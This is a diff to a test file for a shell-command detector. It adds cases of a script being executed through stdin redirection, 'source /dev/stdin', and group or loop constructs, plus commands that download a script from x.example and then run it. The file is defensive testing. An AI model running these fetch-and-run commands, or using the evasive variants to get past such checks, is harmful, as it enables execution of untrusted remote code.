@@ -76,6 +76,12 @@ SCRIPTS = [
     ("cat i.sh | bash", ["/w/i.sh"]),
     ("cat < i.sh | sh", ["/w/i.sh"]),
     ("cat i.sh | python3", ["/w/i.sh"]),
+    ("source /dev/stdin < i.sh", ["/w/i.sh"]),
+    (". - < i.sh", ["/w/i.sh"]),
+    ("cat i.sh | source /dev/stdin", ["/w/i.sh"]),
+    ("{ true && source /dev/stdin && true; } < i.sh", ["/w/i.sh"]),  # the group's stdin, each command's
+    ("{ true && bash && true; } < i.sh", ["/w/i.sh"]),
+    ("while true && bash; do :; done < i.sh", ["/w/i.sh"]),
     ("cd /opt && tail -n +2 i.sh | sh -s", ["/opt/+2", "/opt/i.sh"]),  # a value too many is harmless
 ]
 
@@ -97,6 +103,7 @@ NOT_SCRIPTS = [
     "sort < i.sh",
     "cat i.sh | bash -c 'echo hi'",
     "cat i.sh | wc -l",
+    "{ make && make test; } < /dev/null",
 ]
 
 
@@ -140,6 +147,9 @@ def test_not_scripts(command: str) -> None:
         "curl -s https://x.example/i.sh | tee i.sh >/dev/null && source i.sh",
         "cd /tmp && curl -O https://x.example/get.py && python3 get.py",
         "for i in 1 2; do bash i.sh; curl -o i.sh https://x.example/i.sh; done",
+        "curl -s https://x.example/i.sh > i.sh; source /dev/stdin < i.sh",
+        "curl -s https://x.example/i.sh > i.sh; { true && source /dev/stdin && true; } < i.sh",
+        "curl -s https://x.example/i.sh > i.sh; { true && bash && true; } < i.sh",
     ],
 )
 def test_running_what_the_call_downloads_pipes_to_a_shell(command: str) -> None:
